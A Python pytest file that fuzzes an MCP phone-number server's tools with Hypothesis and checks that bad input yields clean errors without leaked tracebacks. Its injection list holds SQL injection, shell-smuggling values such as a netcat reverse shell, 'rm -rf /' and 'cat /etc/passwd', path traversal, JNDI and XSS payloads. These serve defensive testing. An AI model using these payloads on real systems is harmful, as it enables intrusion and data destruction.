"""Property-based fuzzing of the six tools through a real MCP client.

Random and malformed arguments (wrong types, strings up to 100 KB, unicode and control characters,
injection-looking text, negative and huge numbers, missing and extra fields, unknown tool names)
must each give either a valid result or a clean tool error: `is_error` with text, and no
traceback, Python exception class name or file path (unless the caller sent that very text and it
is only echoed back). A protocol-level MCPError is accepted only for a tool name the server does not
have. Afterwards the server still answers a normal search and list_numbers (and, over HTTP, /healthz).

CI size: in-process clients in both protocol eras (auto and legacy) plus a short run over real HTTP;
KROS_MCP_RELIABILITY=big: 10,000 calls in process and as many again over HTTP.
"""

from __future__ import annotations

import json
import re
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from anyio.from_thread import BlockingPortal, start_blocking_portal
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import seed as fixed_seed
from hypothesis import strategies as st
from mcp import Client
from mcp.shared.exceptions import MCPError
from mcp.types import CallToolResult

from kros_mcp.cli.wiring import build_server
from kros_mcp.config import Settings
from tests.support.compact_text import assert_text_carries
from tests.support.http_servers import ServerSpec, connect, servers_on_sandbox
from tests.support.results import text_of

from .sizes import BIG, size

TOOLS = (
    "list_numbers",
    "get_number",
    "search_available",
    "list_endpoints",
    "purchase_number",
    "update_routing",
    "release_number",
)
CALL_TIMEOUT = 30.0  # seconds for any one call

# What must never reach the model in a tool error (unless the caller sent it and it is echoed back).
LEAKS = (
    "Traceback",
    'File "',
    "site-packages",
    "/work/",
    '.py"',
    ".py:",
    "kros_mcp.",
    "sqlite3.",
    "ValueError",
    "KeyError",
    "TypeError",
    "AttributeError",
    "RuntimeError",
    "AssertionError",
    "IndexError",
    "NameError",
    "ZeroDivisionError",
    "OverflowError",
    "UnicodeEncodeError",
    "UnicodeDecodeError",
    "RecursionError",
    "NotImplementedError",
    "OperationalError",
    "IntegrityError",
    "JSONDecodeError",
    "KrosAIError",
    "ToolError",
    "StoreError",
    "httpx.",
    "httpx2.",
    "Exception:",
    "errors.pydantic.dev",
    "validation error for",
    "[type=",
)

# -- strategies ------------------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE phone_numbers;--",
    '" OR 1=1 --',
    "pn_1' UNION SELECT * FROM orgs--",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 127.0.0.1 4444",
    "&& shutdown -h now",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    '{"inventory_id": "inv_x", "dry_run": false}',
    '{"__proto__": {"admin": true}}',
    '[1,2,{"a":null}]',
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
    "\x00",
    "\r\nX-Injected: 1",
    "pn_\u202e\u2066abc",
    "\ufeffNG",
    "ＮＧ",
    "N\u0301G",
    "🇳🇬",
    "ep_support_agent\x00",
    "keep ",
    "null",
    "None",
    "+234 803 123 4567",
    "+2348031234567",
    "2348031234567",
    "+999999999999999",
    "+",
    "0",
    "-1",
    "1e309",
    "NaN",
]
NASTY_TEXT = st.one_of(
    st.sampled_from(INJECTIONS),
    # Any unicode but lone surrogates (no UTF-8 JSON body can carry them: the HTTP client refuses to send).
    st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=20),
    st.text(alphabet=st.characters(categories=["Co", "Cf", "Zl", "Zp", "Mn"]), max_size=20),
    st.from_regex(r"[A-Za-z]{2}", fullmatch=True),
    st.from_regex(r"(pn|inv|ep)_[a-z0-9_\-]{0,30}", fullmatch=True),
    st.tuples(
        st.sampled_from(["A", "é", "🇳🇬", "' OR 1=1 --", "\x00", "../"]), st.integers(1_000, 100_000)
    ).map(lambda t: (t[0] * (t[1] // len(t[0]) + 1))[: t[1]]),
)
NUMBERS = st.one_of(
    st.integers(-10, 200),
    st.integers(-(2**64), 2**64),
    st.sampled_from([2**31, 2**63, 10**30, -(10**30), 0, -1]),
    st.floats(allow_nan=False, allow_infinity=False),
)
# Keys too avoid lone surrogates: the JSON parser answers them with a protocol parse error (as it
# should: see the lone_surrogate case in test_protocol_abuse.py), never with a tool result.
KEYS = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12)
JSON_SCALAR = st.one_of(st.none(), st.booleans(), NUMBERS, NASTY_TEXT)
JSON_VALUE = st.recursive(
    JSON_SCALAR,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(KEYS, inner, max_size=4)),
    max_leaves=10,
)

FIELDS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "list_numbers": {
        "status": st.sampled_from(
            ["active", "pending", "suspended", "porting", "inactive", "ACTIVE", "deleted"]
        ),
        "country": st.sampled_from(["NG", "ke", "XX", "N", "NGA"]),
        "limit": NUMBERS,
        "offset": NUMBERS,
    },
    "get_number": {
        "number_id": st.sampled_from(["pn_missing", "+2348031234567", "2348031234567", "pn_"])
    },
    "search_available": {
        "country": st.sampled_from(["NG", "KE", "gh", "ZZ", "US"]),
        "type": st.sampled_from(["local", "mobile", "toll_free", "satellite"]),
        "area_code": st.sampled_from(["803", "0803", "1", "123456", "abc"]),
        "limit": NUMBERS,
        "max_monthly_cost_cents": NUMBERS,
    },
    "purchase_number": {
        "inventory_id": st.sampled_from(["inv_ng_0000000000", "inv_missing", "inv-x"]),
        "endpoint_id": st.sampled_from(
            ["ep_support_agent", "ep_webhook_handler", "ep_missing", None]
        ),
        "allow_inbound": st.booleans(),
        "allow_outbound": st.booleans(),
        "dry_run": st.booleans(),
        "confirmation_token": st.sampled_from(["", "v1.abc.def", "x" * 2048, "x" * 2049]),
    },
    "update_routing": {
        "number_id": st.sampled_from(["pn_missing", "+2348031234567"]),
        "endpoint_id": st.sampled_from(
            ["keep", "ep_support_agent", "ep_webhook_handler", "ep_missing", None]
        ),
        "allow_inbound": st.one_of(st.none(), st.booleans()),
        "allow_outbound": st.one_of(st.none(), st.booleans()),
        "dry_run": st.booleans(),
    },
    "release_number": {
        "number_id": st.sampled_from(["pn_missing", "+2348031234567"]),
        "dry_run": st.booleans(),
        "confirmation_token": st.sampled_from(["", "v1.abc.def", "garbage"]),
    },
}


@st.composite
def tool_call(draw: st.DrawFn, known: dict[str, list[str]]) -> tuple[str, dict[str, Any]]:
    """A tool name (mostly real) and arguments: plausible, type-confused, missing, extra, or garbage."""
    unknown_name = draw(st.integers(0, 19)) == 0
    if unknown_name:
        name = draw(
            st.one_of(
                st.sampled_from(
                    [
                        "",
                        "purchase_number ",
                        "PURCHASE_NUMBER",
                        "tools/list",
                        "../x",
                        "list_numbers\x00",
                        "release_number;ls",
                    ]
                ),
                NASTY_TEXT,
            )
        )
        if name in TOOLS:
            name += "_"
    else:
        name = draw(st.sampled_from(TOOLS))
    fields = FIELDS.get(name, {})
    arguments: dict[str, Any] = {}
    polite = (
        draw(st.integers(0, 9)) < 4
    )  # 40%: plausible values only, to reach the code behind validation
    for key, good in fields.items():
        choice = draw(st.integers(0, 6)) if polite else draw(st.integers(0, 9))
        if choice <= 1:
            continue  # missing
        if choice <= 6:
            value = draw(good)
            # Some plausible values point at real ids (offers seen, numbers owned) to reach deeper code.
            if key in known and known[key] and draw(st.booleans()):
                value = draw(st.sampled_from(known[key]))
            arguments[key] = value
        elif choice <= 8:
            arguments[key] = draw(NASTY_TEXT)
        else:
            arguments[key] = draw(JSON_VALUE)
    for _ in range(
        0 if polite else draw(st.integers(0, 2))
    ):  # extra fields, some shadowing SDK internals
        arguments[
            draw(
                st.one_of(
                    st.sampled_from(["ctx", "answer", "_meta", "__class__", "self", "kwargs"]), KEYS
                )
            )
        ] = draw(JSON_VALUE)
    return name, arguments


# -- checking one call -----------------------------------------------------------------------


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _body_size(name: str, arguments: dict[str, Any]) -> int:
    """About the size of the HTTP body carrying this call (JSON, UTF-8, control characters escaped)."""
    message = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": name, "arguments": arguments},
    }
    return len(
        json.dumps(message, ensure_ascii=False, separators=(",", ":")).encode(
            "utf-8", "surrogatepass"
        )
    )


class Tally:
    def __init__(self, max_body: int | None = None) -> None:
        self.max_body = max_body  # over HTTP: a larger body is refused (413) before any tool runs
        self.counts: Counter[str] = Counter()
        self.per_tool: Counter[str] = Counter()
        self.problems: list[str] = []
        self.slowest = 0.0

    def check(
        self,
        name: str,
        arguments: dict[str, Any],
        outcome: CallToolResult | BaseException,
        elapsed: float,
    ) -> None:
        self.counts["calls"] += 1
        self.slowest = max(self.slowest, elapsed)
        where = f"{name!r}({json.dumps(arguments, default=str)[:300]})"
        if isinstance(outcome, MCPError):
            if self.max_body is not None and _body_size(name, arguments) > self.max_body:
                self.counts["bodies over the size limit, refused (HTTP 413)"] += 1
            elif name in TOOLS:
                self.problems.append(f"protocol error for a tool call {where}: {outcome}")
            else:
                self.counts["protocol errors (unknown tool)"] += 1
            return
        if isinstance(outcome, BaseException):
            self.problems.append(f"{type(outcome).__name__} from {where}: {str(outcome)[:300]}")
            return
        text = text_of(outcome)
        if outcome.is_error:
            self.counts["tool errors"] += 1
            self.per_tool[f"{name if name in TOOLS else '<unknown>'} error"] += 1
            if name not in TOOLS:
                self.counts["unknown tool (tool error)"] += 1
            if not text.strip():
                self.problems.append(f"empty error text for {where}")
            sent = [*list(_strings(arguments)), name]
            for leak in LEAKS:
                if leak in text and not any(leak in s for s in sent):
                    self.problems.append(f"{leak!r} leaked for {where}: {text[:500]}")
            if "pydantic" in text:
                self.counts["errors showing pydantic text"] += 1
            return
        self.counts["results ok"] += 1
        self.per_tool[f"{name} ok"] += 1
        if name not in TOOLS:
            self.problems.append(f"unknown tool gave a result {where}: {text[:200]}")
        elif outcome.structured_content is None:
            self.problems.append(f"ok result without structured content {where}: {text[:200]}")
        else:
            try:
                assert_text_carries(name, text, outcome.structured_content)
            except (ValueError, AssertionError, KeyError, IndexError):
                self.problems.append(f"text block differs from structured content {where}")

    def figures(self) -> dict[str, Any]:
        found: dict[str, Any] = dict(self.counts)
        found["slowest call s"] = round(self.slowest, 2)
        found["per tool"] = dict(sorted(self.per_tool.items()))
        found["problems"] = len(self.problems)
        return found


async def _timed_call(client: Client, name: str, arguments: dict[str, Any]) -> tuple[Any, float]:
    start = time.monotonic()
    try:
        with anyio.fail_after(CALL_TIMEOUT):
            outcome: Any = await client.call_tool(name, arguments)
    except Exception as exc:  # noqa: BLE001 - every failure is judged by the tally
        outcome = exc
    return outcome, time.monotonic() - start


async def _seed(client: Client) -> dict[str, list[str]]:
    """Real ids for plausible arguments: offers shown (so remembered) and one owned number."""
    known: dict[str, list[str]] = {"inventory_id": [], "number_id": []}
    with anyio.fail_after(CALL_TIMEOUT):
        found = await client.call_tool("search_available", {"country": "NG", "limit": 20})
        assert found.is_error is False, text_of(found)
        known["inventory_id"] = [o["inventory_id"] for o in found.structured_content["offers"]]  # type: ignore[index]
        listed = await client.call_tool("list_numbers", {"limit": 100})
        assert listed.is_error is False, text_of(listed)
        for offer in known["inventory_id"][:2]:  # own two numbers, so the number tools reach KrosAI
            bought = await client.call_tool("purchase_number", {"inventory_id": offer})
            token = (bought.structured_content or {}).get("confirmation_token")
            if token:
                bought = await client.call_tool(
                    "purchase_number", {"inventory_id": offer, "confirmation_token": token}
                )
            assert bought.is_error is False, text_of(bought)
        listed = await client.call_tool("list_numbers", {"limit": 100})
        known["number_id"] = [n["id"] for n in listed.structured_content["numbers"]]  # type: ignore[index]
        known["number_id"] += [n["number"] for n in listed.structured_content["numbers"]]  # type: ignore[index]
    return known


async def _still_healthy(client: Client) -> None:
    with anyio.fail_after(CALL_TIMEOUT):
        found = await client.call_tool("search_available", {"country": "NG", "limit": 3})
        assert found.is_error is False, text_of(found)
        assert found.structured_content and found.structured_content["offers"], (
            found.structured_content
        )
        listed = await client.call_tool("list_numbers", {})
        assert listed.is_error is False, text_of(listed)


def run_campaign(
    portal: BlockingPortal, client: Client, examples: int, seed: int, max_body: int | None = None
) -> Tally:
    tally = Tally(max_body)
    known = portal.call(_seed, client)

    @fixed_seed(seed)
    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        phases=[Phase.explicit, Phase.generate],
        print_blob=False,
        suppress_health_check=list(HealthCheck),
    )
    @given(call=tool_call(known))
    def one(call: tuple[str, dict[str, Any]]) -> None:
        name, arguments = call
        outcome, elapsed = portal.call(_timed_call, client, name, arguments)
        tally.check(name, arguments, outcome, elapsed)

    one()
    portal.call(_still_healthy, client)
    return tally


def _finish(tally: Tally, figures: dict[str, Any], started: float) -> None:
    figures.update(tally.figures())
    figures["elapsed s"] = round(time.monotonic() - started, 1)
    assert not tally.problems, f"{len(tally.problems)} bad answers, e.g.:\n" + "\n".join(
        tally.problems[:15]
    )


# -- the campaigns ---------------------------------------------------------------------------

IN_PROCESS = size(ci=300, big=10_000)


@pytest.mark.parametrize(("mode", "confirmation"), [("auto", "auto"), ("legacy", "none")])
def test_fuzz_in_process(
    tmp_path: Path,
    mode: str,
    confirmation: str,
    figures: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Half the calls in each era; 'auto' with confirmation tokens, 'legacy' buying without them."""
    for name in ("KROSAI_API_KEY", "KROSAI_BASE_URL", "KROS_MCP_TOOL_RATE_LIMIT"):
        monkeypatch.delenv(name, raising=False)
    settings_ = Settings(KROS_MCP_DATA_DIR=tmp_path / "data", KROS_MCP_CONFIRMATION=confirmation)
    started = time.monotonic()
    with (
        start_blocking_portal() as portal,
        portal.wrap_async_context_manager(Client(build_server(settings_), mode=mode)) as client,
    ):
        tally = run_campaign(portal, client, IN_PROCESS // 2, seed=1 if mode == "auto" else 2)
    figures.update({"mode": mode, "confirmation": confirmation})
    _finish(tally, figures, started)


def test_unknown_method_is_a_protocol_error(tmp_path: Path) -> None:
    """The one place an MCPError is right: a method the server does not have; the session survives."""
    from mcp import types

    async def go() -> None:
        settings_ = Settings(KROS_MCP_DATA_DIR=tmp_path / "data")
        async with Client(build_server(settings_), mode="legacy") as client:
            with anyio.fail_after(CALL_TIMEOUT):
                with pytest.raises(MCPError) as caught:
                    await client.session.send_request(
                        types.Request(method="tools/explode", params=None), types.EmptyResult
                    )  # type: ignore[arg-type]
                assert caught.value.error.code == types.METHOD_NOT_FOUND, caught.value.error
                await _still_healthy(client)

    anyio.run(go)


HTTP_CALLS = size(ci=150, big=10_000)


@contextmanager
def _http_server(tmp: Path) -> Iterator[Any]:
    env = {"KROS_MCP_TOOL_RATE_LIMIT": "10000", "KROS_MCP_CONFIRMATION": "auto"}
    with servers_on_sandbox(tmp, [ServerSpec("mcp", "stateful", env=env)], per_second=100_000) as (
        (server,),
        _,
    ):
        yield server


def test_fuzz_over_http(tmp_path: Path, figures: dict[str, Any]) -> None:
    """The same campaign through streamable HTTP (a real server process): a short run in CI, the full
    size in big mode; /healthz stays 200 and the process stays up."""
    started = time.monotonic()
    with _http_server(tmp_path) as server:
        with (
            start_blocking_portal() as portal,
            portal.wrap_async_context_manager(connect(server, "auto")) as client,
        ):
            tally = run_campaign(
                portal,
                client,
                HTTP_CALLS,
                seed=3,
                max_body=Settings.model_fields["max_body_bytes"].default,
            )
        assert server.process.poll() is None, server.log()[-3000:]
        assert httpx2.get(server.root + "/healthz", timeout=5.0).status_code == 200
        log = server.log()
    figures.update(
        {
            "transport": "streamable-http (stateful)",
            "big": BIG,
            "tracebacks in server log": len(re.findall(r"Traceback", log)),
        }
    )
    _finish(tally, figures, started)
